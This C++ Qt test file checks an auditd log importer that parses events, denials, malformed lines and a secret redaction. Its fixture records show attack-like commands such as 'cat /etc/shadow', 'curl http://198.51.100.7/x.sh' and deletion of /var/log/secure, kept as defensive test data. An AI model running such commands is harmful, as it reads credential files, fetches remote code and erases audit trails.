#include "core/NodeLogTestUtil.h"

#include "import/importers/AuditdImporter.h"
#include "util/Hash.h"

using namespace ab;
using namespace ab::test;

namespace {

MemoryImport runFixture(const QString& name)
{
    AuditdImporter importer;
    return importBytes(importer, readFile(dataPath(QStringLiteral("auditd/") + name)), name);
}

MemoryImport runBytes(const QByteArray& bytes)
{
    AuditdImporter importer;
    return importBytes(importer, bytes);
}

} // namespace

class TestAuditdImporter : public QObject
{
    Q_OBJECT
private slots:
    void execveGroup();
    void records_data();
    void records();
    void failedOpenOfShadow();
    void enriched();
    void ausearchOutput();
    void accessDenials();
    void interpretedOutput();
    void groupingIsBounded();
    void interleavedEventsStayWhole();
    void secretsInCommandLinesAreFingerprinted();
    void brokenLines();
    void hintsFillNode();
    void notAuditFails();
    void sniff_data();
    void sniff();
    void cancellation();
    void fuzz();
    void throughput();
};

void TestAuditdImporter::execveGroup()
{
    const QByteArray bytes = readFile(dataPath(QStringLiteral("auditd/audit.log")));
    const MemoryImport m = runFixture(QStringLiteral("audit.log"));
    QVERIFY(m.result.hasValue());
    QVERIFY(m.issues.isEmpty());
    QCOMPARE(m.out.events.size(), size_t(11));
    QCOMPARE(m.result.value().lines, 19);
    const NormalizedEvent& ev = m.out.events[0].ev;
    QCOMPARE(ev.tsNs, nsOf(2023, 11, 14, 22, 13, 20, 123));
    QCOMPARE(ev.tsQuality, TsQuality::Exact);
    QCOMPARE(ev.line, 1);
    QCOMPARE(ev.byteOffset, 0);
    // Six records: SYSCALL, EXECVE, CWD, two PATHs, PROCTITLE.
    qsizetype end = 0;
    for (int i = 0; i < 6; ++i)
        end = bytes.indexOf('\n', end) + 1;
    QCOMPARE(ev.byteLength, qint64(end - 1));
    QCOMPARE(col(ev, EventText::Source), QStringLiteral("auditd"));
    QCOMPARE(col(ev, EventText::Resource), QStringLiteral("SYSCALL"));
    QCOMPARE(col(ev, EventText::RecordId), QStringLiteral("1700000000.123:456"));
    QCOMPARE(col(ev, EventText::Verb), QStringLiteral("execve"));
    QCOMPARE(col(ev, EventText::Principal), QStringLiteral("1000"));
    QCOMPARE(col(ev, EventText::Impersonated), QStringLiteral("0"));
    QCOMPARE(col(ev, EventText::Object), QStringLiteral("cat /etc/shadow"));
    QCOMPARE(col(ev, EventText::UserAgent), QStringLiteral("/usr/bin/cat"));
    QCOMPARE(col(ev, EventText::Reason), QStringLiteral("shadow-read"));
    QCOMPARE(col(ev, EventText::Decision), QStringLiteral("allow"));
    QCOMPARE(ev.status, 0);
    QCOMPARE(ev.severity, 1); // a rule key matched
    const QString msg = col(ev, EventText::Message);
    QVERIFY(msg.startsWith(QStringLiteral("SYSCALL arch=c000003e syscall=59 success=yes")));
    QVERIFY(msg.endsWith(QStringLiteral("key=\"shadow-read\" proctitle=\"cat /etc/shadow\"")));
    QCOMPARE(m.out.events[1].ev.line, 7);
}

void TestAuditdImporter::records_data()
{
    QTest::addColumn<int>("line");
    QTest::addColumn<QString>("verb");
    QTest::addColumn<QString>("principal");
    QTest::addColumn<QString>("impersonated");
    QTest::addColumn<QString>("sourceIp");
    QTest::addColumn<QString>("object");
    QTest::addColumn<QString>("decision");
    QTest::addColumn<int>("status");
    QTest::addColumn<int>("severity");
    auto row = [](const char* name, int line, const char* verb, const char* principal, const char* impersonated,
                  const char* ip, const char* object, const char* decision, int status, int severity) {
        QTest::newRow(name) << line << QString::fromUtf8(verb) << QString::fromUtf8(principal)
                            << QString::fromUtf8(impersonated) << QString::fromUtf8(ip) << QString::fromUtf8(object)
                            << QString::fromUtf8(decision) << status << severity;
    };
    row("sshd auth failed", 7, "PAM:authentication", "alice", "", "203.0.113.7", "/usr/sbin/sshd", "deny", 1, 2);
    row("sshd login failed", 8, "login", "admin", "", "203.0.113.99", "/usr/sbin/sshd", "deny", 1, 2);
    row("accounting", 9, "PAM:accounting", "alice", "", "203.0.113.7", "/usr/sbin/sshd", "allow", 0, 0);
    row("credentials", 10, "PAM:setcred", "alice", "", "203.0.113.7", "/usr/sbin/sshd", "allow", 0, 0);
    row("login", 11, "login", "1000", "", "203.0.113.7", "/usr/sbin/sshd", "allow", 0, 0);
    row("sudo command", 12, "user_cmd", "1000", "", "", "cat /etc/shadow", "allow", 0, 1);
    row("su auth", 13, "PAM:authentication", "1000", "root", "node-1", "/usr/bin/su", "allow", 0, 0);
    row("promiscuous", 18, "anom_promiscuous", "1000", "", "", "", "", 0, 3);
    row("add user", 19, "add-user", "1000", "", "node-1", "/usr/sbin/useradd", "allow", 0, 1);
}

void TestAuditdImporter::records()
{
    QFETCH(int, line);
    const MemoryImport m = runFixture(QStringLiteral("audit.log"));
    const NormalizedEvent* ev = eventAtLine(m.out, line);
    QVERIFY(ev);
    QTEST(col(*ev, EventText::Verb), "verb");
    QTEST(col(*ev, EventText::Principal), "principal");
    QTEST(col(*ev, EventText::Impersonated), "impersonated");
    QTEST(col(*ev, EventText::SourceIp), "sourceIp");
    QTEST(col(*ev, EventText::Object), "object");
    QTEST(col(*ev, EventText::Decision), "decision");
    QTEST(ev->status, "status");
    QTEST(ev->severity, "severity");
}

void TestAuditdImporter::failedOpenOfShadow()
{
    const MemoryImport m = runFixture(QStringLiteral("audit.log"));
    const NormalizedEvent* ev = eventAtLine(m.out, 14);
    QVERIFY(ev);
    QCOMPARE(col(*ev, EventText::Verb), QStringLiteral("openat"));
    QCOMPARE(col(*ev, EventText::Object), QStringLiteral("/etc/shadow"));
    QCOMPARE(col(*ev, EventText::Principal), QStringLiteral("1000"));
    QCOMPARE(col(*ev, EventText::Impersonated), QString());
    QCOMPARE(col(*ev, EventText::Decision), QStringLiteral("deny"));
    QCOMPARE(col(*ev, EventText::Reason), QString()); // key=(null)
    QCOMPARE(ev->status, 1);
    QCOMPARE(ev->severity, 1);
    QVERIFY(col(*ev, EventText::Message).endsWith(QStringLiteral("proctitle=\"my cat /etc/shadow\"")));
    QCOMPARE(eventAtLine(m.out, 18)->tsNs, nsOf(2023, 11, 14, 22, 21, 40));
}

void TestAuditdImporter::enriched()
{
    const MemoryImport m = runFixture(QStringLiteral("audit-enriched.log"));
    QVERIFY(m.result.hasValue());
    QVERIFY(m.issues.isEmpty()); // 0x1D is the enrichment separator, not bad encoding
    QCOMPARE(m.out.events.size(), size_t(2));
    const NormalizedEvent& ev = m.out.events[0].ev;
    QCOMPARE(col(ev, EventText::Node), QStringLiteral("node-7"));
    QCOMPARE(col(ev, EventText::Verb), QStringLiteral("execve"));
    QCOMPARE(col(ev, EventText::Principal), QStringLiteral("bob"));
    QCOMPARE(col(ev, EventText::Impersonated), QStringLiteral("root"));
    QCOMPARE(col(ev, EventText::Reason), QStringLiteral("exec,priv-esc"));
    QCOMPARE(col(ev, EventText::Object), QStringLiteral("id"));
    QVERIFY(!col(ev, EventText::Message).contains(QStringLiteral("AUID=")));
    const NormalizedEvent& login = m.out.events[1].ev;
    QCOMPARE(login.line, 5); // the EOE record closed the first event
    QCOMPARE(col(login, EventText::Principal), QStringLiteral("bob"));
    QCOMPARE(col(login, EventText::SourceIp), QStringLiteral("198.51.100.4"));
    QCOMPARE(col(login, EventText::Verb), QStringLiteral("login"));
}

void TestAuditdImporter::ausearchOutput()
{
    const MemoryImport m = runFixture(QStringLiteral("ausearch.log"));
    QVERIFY(m.result.hasValue());
    QVERIFY(m.issues.isEmpty());
    QCOMPARE(m.out.events.size(), size_t(2));
    const NormalizedEvent& ev = m.out.events[0].ev;
    QCOMPARE(ev.line, 3); // ausearch prints the records of an event in reverse order
    QCOMPARE(col(ev, EventText::Resource), QStringLiteral("SYSCALL"));
    QCOMPARE(col(ev, EventText::Verb), QStringLiteral("execve"));
    QCOMPARE(col(ev, EventText::Object), QStringLiteral("cat /etc/shadow"));
    QCOMPARE(col(m.out.events[1].ev, EventText::Principal), QStringLiteral("alice"));
}

void TestAuditdImporter::accessDenials()
{
    const MemoryImport m = runFixture(QStringLiteral("avc.log"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.out.events.size(), size_t(2));
    // AppArmor in a container: the AVC and its SYSCALL are one event.
    const NormalizedEvent& apparmor = m.out.events[0].ev;
    QCOMPARE(apparmor.line, 1);
    QCOMPARE(col(apparmor, EventText::Resource), QStringLiteral("AVC"));
    QCOMPARE(col(apparmor, EventText::Verb), QStringLiteral("open"));
    QCOMPARE(col(apparmor, EventText::Object), QStringLiteral("/etc/shadow"));
    QCOMPARE(col(apparmor, EventText::UserAgent), QStringLiteral("/usr/bin/cat"));
    QCOMPARE(col(apparmor, EventText::Principal), QStringLiteral("0")); // no login user: the uid
    QCOMPARE(col(apparmor, EventText::Decision), QStringLiteral("deny"));
    QCOMPARE(apparmor.status, 1);
    QCOMPARE(apparmor.severity, 2);
    const NormalizedEvent& selinux = m.out.events[1].ev;
    QCOMPARE(selinux.line, 3);
    QCOMPARE(col(selinux, EventText::Verb), QStringLiteral("avc"));
    QCOMPARE(col(selinux, EventText::Object), QStringLiteral("passwd"));
    QCOMPARE(col(selinux, EventText::Decision), QStringLiteral("deny"));
    QCOMPARE(selinux.severity, 2);
}

void TestAuditdImporter::interpretedOutput()
{
    AuditdImporter importer;
    ImportOptions options;
    options.assumedZone = QTimeZone("Europe/Berlin"); // where ausearch -i ran
    const MemoryImport m = importBytes(importer, readFile(dataPath(QStringLiteral("auditd/ausearch-interpreted.log"))),
                                       QStringLiteral("ausearch-interpreted.log"), options);
    QVERIFY(m.result.hasValue());
    QVERIFY(m.issues.isEmpty());
    QCOMPARE(m.out.events.size(), size_t(2));
    const NormalizedEvent& exec = m.out.events[0].ev;
    QCOMPARE(exec.line, 2);
    QCOMPARE(exec.tsNs, nsOf(2023, 11, 14, 21, 13, 20, 123)); // CET is UTC+1
    QCOMPARE(exec.tsQuality, TsQuality::NoTimeZone);
    QCOMPARE(col(exec, EventText::Verb), QStringLiteral("execve"));
    QCOMPARE(col(exec, EventText::Principal), QStringLiteral("alice"));
    QCOMPARE(col(exec, EventText::Impersonated), QStringLiteral("root"));
    QCOMPARE(col(exec, EventText::Object), QStringLiteral("cat /etc/shadow"));
    QCOMPARE(col(exec, EventText::Reason), QStringLiteral("shadow-read"));
    const NormalizedEvent& auth = m.out.events[1].ev;
    QCOMPARE(auth.tsNs, nsOf(2023, 11, 14, 21, 15, 0, 500)); // "11/14/23": the C locale's two-digit year
    QCOMPARE(col(auth, EventText::Principal), QStringLiteral("alice"));
    QCOMPARE(col(auth, EventText::Decision), QStringLiteral("deny"));
    QCOMPARE(auth.severity, 2);
}

void TestAuditdImporter::groupingIsBounded()
{
    QByteArray data;
    for (int i = 0; i < 70; ++i)
        data += "type=PATH msg=audit(1700000000.000:1): item=" + QByteArray::number(i) + " name=\"/tmp/f\"\n";
    data += "type=SYSCALL msg=audit(1700000001.000:2): arch=c000003e syscall=87 success=yes auid=0 uid=0 euid=0\n";
    const MemoryImport m = runBytes(data);
    QCOMPARE(m.out.events.size(), size_t(3));
    QCOMPARE(m.out.events[0].ev.line, 1);
    QCOMPARE(m.out.events[1].ev.line, 1 + AuditdImporter::kMaxRecordsPerEvent);
    QCOMPARE(col(m.out.events[2].ev, EventText::Verb), QStringLiteral("unlink"));
}

void TestAuditdImporter::interleavedEventsStayWhole()
{
    // Two CPUs logging at once: the records of serials 501 and 502 alternate.
    const QByteArray data =
        "type=SYSCALL msg=audit(1700000000.100:501): arch=c000003e syscall=59 success=yes auid=1000 uid=0 euid=0 "
        "comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"\n"
        "type=SYSCALL msg=audit(1700000000.100:502): arch=c000003e syscall=87 success=yes auid=1001 uid=1001 "
        "euid=1001 comm=\"rm\" exe=\"/usr/bin/rm\" key=\"delete\"\n"
        "type=EXECVE msg=audit(1700000000.100:501): argc=2 a0=\"curl\" a1=\"http://198.51.100.7/x.sh\"\n"
        "type=PATH msg=audit(1700000000.100:502): item=0 name=\"/var/log/secure\" nametype=DELETE\n"
        "type=EOE msg=audit(1700000000.100:501): \n"
        "type=EOE msg=audit(1700000000.100:502): \n";
    const MemoryImport m = runBytes(data);
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.out.events.size(), size_t(2));
    const NormalizedEvent* exec = nullptr;
    const NormalizedEvent* unlink = nullptr;
    for (const auto& e : m.out.events)
        (col(e.ev, EventText::RecordId).endsWith(QStringLiteral(":501")) ? exec : unlink) = &e.ev;
    QVERIFY(exec && unlink);
    QCOMPARE(col(*exec, EventText::Verb), QStringLiteral("execve"));
    QCOMPARE(col(*exec, EventText::Object), QStringLiteral("curl http://198.51.100.7/x.sh"));
    QCOMPARE(col(*exec, EventText::Principal), QStringLiteral("1000"));
    QCOMPARE(exec->line, 1);
    QCOMPARE(col(*unlink, EventText::Verb), QStringLiteral("unlink"));
    QCOMPARE(col(*unlink, EventText::Object), QStringLiteral("/var/log/secure"));
    QCOMPARE(col(*unlink, EventText::Principal), QStringLiteral("1001"));
    QCOMPARE(unlink->line, 2);
}

void TestAuditdImporter::secretsInCommandLinesAreFingerprinted()
{
    const QByteArray title = QByteArray("curl\0-H\0Authorization: Bearer s3cr3t-t0ken\0https://10.0.0.1:6443/api", 68);
    const QByteArray data = "type=SYSCALL msg=audit(1700000000.000:1): arch=c000003e syscall=59 success=yes auid=1000 "
                            "uid=1000 euid=1000\n"
                            "type=EXECVE msg=audit(1700000000.000:1): argc=4 a0=\"curl\" a1=\"-H\" a2=" +
                            QByteArray("Authorization: Bearer s3cr3t-t0ken").toHex().toUpper() +
                            " a3=\"https://10.0.0.1:6443/api\"\n"
                            "type=PROCTITLE msg=audit(1700000000.000:1): proctitle=" +
                            title.toHex().toUpper() + "\n";
    const MemoryImport m = runBytes(data);
    QCOMPARE(m.out.events.size(), size_t(1));
    const NormalizedEvent& ev = m.out.events[0].ev;
    QCOMPARE(col(ev, EventText::Object), QStringLiteral("curl -H Authorization: Bearer ") +
                                             secretFingerprint("s3cr3t-t0ken") +
                                             QStringLiteral(" https://10.0.0.1:6443/api"));
    for (const std::string& t : ev.text)
        QVERIFY(t.find("s3cr3t") == std::string::npos);
}

void TestAuditdImporter::brokenLines()
{
    const QByteArray data = "type=SYSCALL msg=audit(1700000000.000:1): arch=c000003e syscall=59 success=yes auid=0\n"
                            "this is not an audit record\n"
                            "type=SYSCALL msg=audit(99999999999.000:2): syscall=59\n"
                            "type=SYSCALL msg=audit(1700000000.5:3): syscall=59\n"
                            "type=USER_AUTH msg=audit(1700000002.000:4): pid=1 uid=0 auid=4294967295 msg='op=x "
                            "acct=\"caf\xe9\" res=failed'\n";
    const MemoryImport m = runBytes(data);
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.out.events.size(), size_t(2));
    QCOMPARE(findIssue(m.issues, QStringLiteral("auditd.bad-line"))->lines, (QVector<qint64>{2, 4}));
    QCOMPARE(findIssue(m.issues, QStringLiteral("auditd.bad-time"))->line, 3);
    QCOMPARE(findIssue(m.issues, QStringLiteral("auditd.bad-encoding"))->line, 5);
    QCOMPARE(col(m.out.events[1].ev, EventText::Principal), QStringLiteral("caf\u00e9"));
    QCOMPARE(m.result.value().skipped, 3);
}

void TestAuditdImporter::hintsFillNode()
{
    AuditdImporter importer;
    SourceHints hints;
    hints.node = QStringLiteral("worker-7");
    const MemoryImport m =
        importBytes(importer, "type=EOE msg=audit(1700000000.000:1): \n", QStringLiteral("a"), ImportOptions(), hints);
    QCOMPARE(col(m.out.events.at(0).ev, EventText::Node), QStringLiteral("worker-7"));
}

void TestAuditdImporter::notAuditFails()
{
    const MemoryImport m = runBytes("hello\n");
    QVERIFY(!m.result.hasValue());
    QCOMPARE(m.result.error().code, ErrorCode::Parse);
    const MemoryImport empty = runBytes("");
    QVERIFY(empty.result.hasValue());
    QVERIFY(hasIssue(empty.issues, QStringLiteral("auditd.empty")));
}

void TestAuditdImporter::sniff_data()
{
    QTest::addColumn<QByteArray>("head");
    QTest::addColumn<int>("confidence");
    QTest::newRow("raw") << QByteArray("type=SYSCALL msg=audit(1700000000.123:456): arch=c000003e syscall=59\n")
                         << int(Confidence::Signature);
    QTest::newRow("node") << QByteArray("node=n1 type=EOE msg=audit(1700000000.123:456): \n")
                          << int(Confidence::Signature);
    QTest::newRow("syslog kernel audit")
        << QByteArray("May  1 10:00:00 h kernel: audit: type=1400 audit(1700000000.123:456): apparmor=\"DENIED\"\n")
        << int(Confidence::No);
    QTest::newRow("prose") << QByteArray("type=this is prose\n") << int(Confidence::No);
}

void TestAuditdImporter::sniff()
{
    QFETCH(QByteArray, head);
    QFETCH(int, confidence);
    AuditdImporter importer;
    QCOMPARE(int(importer.sniff(head)), confidence);
}

void TestAuditdImporter::cancellation()
{
    AuditdImporter importer;
    qint64 seen = 0;
    QByteArray lines;
    for (int i = 0; i < 20000; ++i)
        lines += "type=SYSCALL msg=audit(1700000000.000:" + QByteArray::number(i) + "): syscall=59 auid=0\n";
    auto src = ImportSource::fromBytes(lines, QStringLiteral("big"));
    std::atomic<bool> cancel{false};
    int calls = 0;
    ImportOptions options;
    ImportContext ctx(options, &cancel, [&](qint64) {
        if (++calls == 3)
            cancel = true;
    });
    MemoryCaseWriter out;
    const ImportResult r = importer.import(*src, out, ctx);
    QVERIFY(!r.hasValue());
    QCOMPARE(r.error().code, ErrorCode::Cancelled);
    seen = static_cast<qint64>(out.events.size());
    QVERIFY(seen >= 1000 && seen < 20000);
}

void TestAuditdImporter::fuzz()
{
    AuditdImporter importer;
    const int iterations = fuzzIterations();
    const int imported = fuzzImporter(importer, iterations, 20240503u);
    QVERIFY(imported >= 0);
    QVERIFY(imported > iterations / 3);
}

void TestAuditdImporter::throughput()
{
    AuditdImporter importer;
    const QByteArray sample = readFile(dataPath(QStringLiteral("auditd/audit.log")));
    qint64 events = 0;
    const double mbs = throughputMBs(importer, sample, &events);
    if (mbs == 0)
        QSKIP("set AUDITBENCH_BENCH_MB to measure");
    qInfo("auditd: %.0f MB/s, %lld events", mbs, static_cast<long long>(events));
}

QTEST_GUILESS_MAIN(TestAuditdImporter)
#include "TestAuditdImporter.moc"
